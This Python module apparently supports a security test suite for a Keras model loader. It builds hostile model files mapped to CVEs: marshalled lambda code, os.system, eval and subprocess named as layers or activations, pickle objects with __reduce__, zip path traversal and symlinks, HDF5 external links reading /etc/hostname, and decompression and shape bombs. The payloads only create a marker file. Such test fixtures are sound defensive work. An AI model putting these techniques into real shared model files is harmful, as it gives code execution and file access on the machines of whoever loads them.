"""Files that attack whoever reads them, one maker for each way; `MAKERS` names them all.

Each maker is given a small model's own files and changes what the attack needs. The rows are those of known attacks on
Keras: the CVEs stand beside the makers.
"""

import base64
import io
import json
import marshal
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

# Every attack that succeeds makes this file, or leaves another trace that the tests look for.
MARK = "harmed"


def payload(mark: Path) -> str:
    """A function's code that writes the mark, as a config carries it."""

    def run(x):
        open(str(mark), "w").close()
        return x

    return base64.b64encode(marshal.dumps(run.__code__)).decode()


class Pickled:
    """What writes the mark when it is unpickled."""

    def __init__(self, mark: Path):
        self.mark = mark

    def __reduce__(self):
        return open, (str(self.mark), "w")


# -- configs: what they name -----------------------------------------------------------------------------------------


def layer(class_name: str, config: Any, module: str | None = "keras.layers", **extra: Any) -> dict:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **extra}


def in_the_model(change: Callable[[dict], None]) -> Callable[[dict, Path], None]:
    """A change of the model's config that needs no mark."""
    return lambda config, mark: change(config)


def replaced(new: Callable[[Path], dict]) -> Callable[[dict, Path], None]:
    """A change that puts another layer in the place of the model's Dense."""

    def change(config: dict, mark: Path) -> None:
        for at, one in enumerate(config["config"]["layers"]):
            if one["class_name"] == "Dense":
                made = new(mark)
                made.setdefault("name", one.get("name"))
                made.setdefault("inbound_nodes", one.get("inbound_nodes"))
                if isinstance(made["config"], dict):
                    made["config"].setdefault("name", one["config"]["name"])
                config["config"]["layers"][at] = made

    return change


def with_activation(value: Any) -> Callable[[dict, Path], None]:
    """A change that gives the model's Dense another activation."""

    def change(config: dict, mark: Path) -> None:
        dense = next(one for one in config["config"]["layers"] if one["class_name"] == "Dense")
        dense["config"]["activation"] = value(mark) if callable(value) else value

    return change


def with_dense(**arguments: Any) -> Callable[[dict, Path], None]:
    def change(config: dict, mark: Path) -> None:
        next(one for one in config["config"]["layers"] if one["class_name"] == "Dense")["config"].update(arguments)

    return change


def function(name: str, module: str = "builtins") -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def coded(mark: Path) -> dict:
    return {"class_name": "__lambda__", "config": {"code": payload(mark), "defaults": None, "closure": None}}


CONFIGS: dict[str, Callable[[dict, Path], None]] = {
    # CVE-2024-3660, CVE-2025-9905
    "lambda with code": replaced(lambda mark: layer("Lambda", {"function": coded(mark), "arguments": {}})),
    "lambda of Keras 2 with code": replaced(
        lambda mark: layer("Lambda", {"function": [payload(mark), None, None], "function_type": "lambda"})
    ),
    "activation with code": with_activation(coded),
    # CVE-2025-1550, CVE-2025-8747
    "os.system as activation": with_activation(function("system", "os")),
    "eval as activation": with_activation(function("eval")),
    "os.system as class": replaced(lambda mark: layer("system", f"touch {mark}", "os")),
    "subprocess as class": replaced(lambda mark: layer("Popen", {"args": ["touch", str(mark)]}, "subprocess")),
    "open as class": replaced(lambda mark: layer("open", {"file": str(mark), "mode": "w"}, "builtins")),
    "a download": replaced(
        lambda mark: layer("get_file", {"fname": str(mark), "origin": "file:///etc/hostname"}, "keras.utils")
    ),
    "numpy's loader": replaced(lambda mark: layer("load", {"file": str(mark), "allow_pickle": True}, "numpy")),
    "a module of the user's": replaced(lambda mark: layer("Attack", {}, "hostile_module")),
    "a lambda's function by name": replaced(
        lambda mark: layer("Lambda", {"function": function("system", "os"), "arguments": {"command": f"touch {mark}"}})
    ),
    "a function as layer": replaced(lambda mark: layer("relu", {}, "keras.activations")),
    "a dunder": with_activation(function("__import__")),
    # CVE-2025-9906
    "set_epsilon as activation": with_activation(function("set_epsilon", "keras.config")),
    "set_epsilon as class": replaced(lambda mark: layer("set_epsilon", {"value": 0.5}, "keras.config")),
    "safe mode off": replaced(lambda mark: layer("enable_unsafe_deserialization", {}, "keras.config")),
    # CVE-2025-49655, CVE-2026-1462
    "a module of PyTorch": replaced(
        lambda mark: layer("TorchModuleWrapper", {"module": base64.b64encode(pickle.dumps(Pickled(mark))).decode()})
    ),
    "a SavedModel": replaced(lambda mark: layer("TFSMLayer", {"filepath": str(mark)})),
    # CVE-2025-12058
    "a vocabulary's path": replaced(lambda mark: layer("StringLookup", {"vocabulary": "/etc/hostname"})),
    "a tokenizer's path": replaced(lambda mark: layer("TextVectorization", {"vocabulary": "/etc/hostname"})),
    "a vocabulary of many unknown words": replaced(
        lambda mark: layer(
            "StringLookup",
            {
                "vocabulary": ["a"],
                "num_oov_indices": 2**40,
                "output_mode": "tf_idf",
                "idf_weights": [1.0],
                "max_tokens": 2**41,
            },
        )
    ),
    "a long text": replaced(
        lambda mark: layer("TextVectorization", {"output_sequence_length": 2**40, "ngrams": 2**40})
    ),
    # CVE-2026-0897: 32 TB
    "a huge layer": with_dense(units=2**40),
    "a large layer": with_dense(units=2**28),
    "a layer of more units than Python's digits": with_dense(units=10**30),
    "a negative layer": with_dense(units=-1),
    "a layer of text": with_dense(units="units"),
    # CVE-2026-12479
    "a name that leads up": with_dense(name=".."),
    "a name with a zero": with_dense(name="a\0b"),
    "a name of lists": with_dense(name=[["a"]]),
    "a name of a megabyte": with_dense(name="a" * 2**20),
    "no layers": in_the_model(lambda config: config["config"].pop("layers")),
    "layers that are none": in_the_model(lambda config: config["config"].update(layers=[1, "two", None])),
    "a model within itself": in_the_model(
        lambda config: config["config"]["layers"][-1].update(inbound_nodes=config["config"]["layers"][-1]["config"])
    ),
}

TEXTS: dict[str, Callable[[str], str]] = {
    "100,000 deep": lambda text: "[" * 100_000 + "]" * 100_000,
    "a number of a million digits": lambda text: text.replace('"units": 2', '"units": ' + "9" * 1_000_000),
    "not a number": lambda text: text.replace('"units": 2', '"units": NaN'),
    "infinity": lambda text: text.replace('"units": 2', '"units": 1e999'),
    "a key twice": lambda text: text.replace('"units": 2', '"units": 2, "units": 3'),
    "a setting 5,000 deep": lambda text: text.replace('"units": 2', '"units": ' + "[" * 5_000 + "]" * 5_000),
    "half": lambda text: text[: len(text) // 2],
    "a list": lambda text: f"[{text}]",
    "a number": lambda text: "7",
    "nothing": lambda text: "",
    "bytes that are no text": lambda text: text.replace('"units"', '"\udc80"'),
}


# -- HDF5: what stands there instead of a weight -----------------------------------------------------------------------


def _external_storage(group: h5py.Group, name: str, mark: Path) -> None:
    group.create_dataset(name, (4,), "float32", external=[("/etc/hostname", 0, 16)])


def _virtual(group: h5py.Group, name: str, mark: Path) -> None:
    virtual = h5py.VirtualLayout((4,), "float32")
    virtual[:] = h5py.VirtualSource("/etc/hostname", "x", (4,))
    group.create_virtual_dataset(name, virtual)


def _soft_link(group: h5py.Group, name: str, mark: Path) -> None:
    group[name] = h5py.SoftLink("/")


def _external_link(group: h5py.Group, name: str, mark: Path) -> None:
    group[name] = h5py.ExternalLink("/etc/hostname", "/")


def _circle(group: h5py.Group, name: str, mark: Path) -> None:
    group[name] = group.file["/"]


def _bomb(group: h5py.Group, name: str, mark: Path) -> None:
    group.create_dataset(name, (2**44,), "float32", chunks=(2**20,))


def _packed_bomb(group: h5py.Group, name: str, mark: Path) -> None:
    group.create_dataset(name, (2**28,), "uint8", chunks=(2**28,), compression="gzip", fillvalue=0)[:] = 0


def _references(group: h5py.Group, name: str, mark: Path) -> None:
    group.create_dataset(name, data=[group.ref], dtype=h5py.ref_dtype)


def _compound(group: h5py.Group, name: str, mark: Path) -> None:
    group.create_dataset(name, data=np.zeros(4, [("a", "f4"), ("b", "i4")]))


def _opaque(group: h5py.Group, name: str, mark: Path) -> None:
    group.create_dataset(name, data=np.void(pickle.dumps(Pickled(mark))))


HDF5: dict[str, Callable[[h5py.Group, str, Path], None]] = {
    # CVE-2026-1669, CVE-2026-12480
    "external storage": _external_storage,
    "virtual array": _virtual,
    "soft link": _soft_link,
    "external link": _external_link,
    "circle": _circle,
    "shape bomb": _bomb,
    "packed bomb": _packed_bomb,
    "references": _references,
    "compound": _compound,
    "opaque": _opaque,
}


def hdf5_with(data: bytes, make: Callable, where: str, name: str, mark: Path) -> bytes:
    """The HDF5 file `data` with what `make` makes as `name` in the group `where`, in the place of what stood there."""
    buffer = io.BytesIO(data)
    with h5py.File(buffer, "r+") as file:
        group = file.require_group(where)
        if name in group:
            del group[name]
        make(group, name, mark)
    return buffer.getvalue()


# -- zip ---------------------------------------------------------------------------------------------------------------


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(path: Path, parts: Any, method: int = zipfile.ZIP_STORED) -> None:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", method) as archive:
        warnings.simplefilter("ignore")  # of names that stand twice
        for name, data in dict(parts).items() if isinstance(parts, dict) else parts:
            archive.writestr(name, data)


def _link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0xA1FF << 16
    return info


def _encrypted(path: Path, parts: dict[str, bytes]) -> None:
    packed(path, parts)
    data = bytearray(path.read_bytes())
    for at in (6, data.index(b"PK\x01\x02") + 8):
        data[at] |= 1
    path.write_bytes(data)


def _other_length(path: Path, parts: dict[str, bytes]) -> None:
    packed(path, parts)
    data = bytearray(path.read_bytes())
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 2**31)
    path.write_bytes(data)


ZIPS: dict[str, Callable[[Path, dict[str, bytes]], None]] = {
    # CVE-2024-55459, CVE-2025-12060, CVE-2025-12638
    "a part that leads up": lambda path, parts: packed(path, parts | {"assets/../../harmed": b""}),
    "a part with an absolute name": lambda path, parts: packed(path, parts | {"/tmp/harmed": b""}),
    "a symbolic link": lambda path, parts: packed(path, [*parts.items(), (_link("assets/a"), b"/etc/hostname")]),
    "a part twice": lambda path, parts: packed(path, [*parts.items(), ("config.json", parts["config.json"])]),
    "an encrypted part": _encrypted,
    "a bomb": lambda path, parts: packed(path, parts | {"config.json": b" " * 2**29}, zipfile.ZIP_DEFLATED),
    "another length": _other_length,
    "no config": lambda path, parts: packed(path, {n: p for n, p in parts.items() if n != "config.json"}),
    "no weights": lambda path, parts: packed(path, {n: p for n, p in parts.items() if not n.endswith(".h5")}),
    "pickled weights": lambda path, parts: packed(
        path, parts | {"model.weights.h5": pickle.dumps(Pickled(path.parent / MARK))}
    ),
    "empty": lambda path, parts: path.write_bytes(b""),
    "the first half": lambda path, parts: (packed(path, parts), path.write_bytes(path.read_bytes()[: 2**10]))[0],
    "the end cut off": lambda path, parts: (packed(path, parts), path.write_bytes(path.read_bytes()[:-30]))[0],
}


def with_config(path: Path, parts: dict[str, bytes], text: str) -> None:
    """A `.keras` file of these parts with another config."""
    packed(path, parts | {"config.json": text.encode(errors="surrogatepass")})


def changed(text: str, change: Callable[[dict, Path], None], mark: Path) -> str:
    """A model's JSON after a change."""
    config = json.loads(text)
    change(config, mark)
    return json.dumps(config)
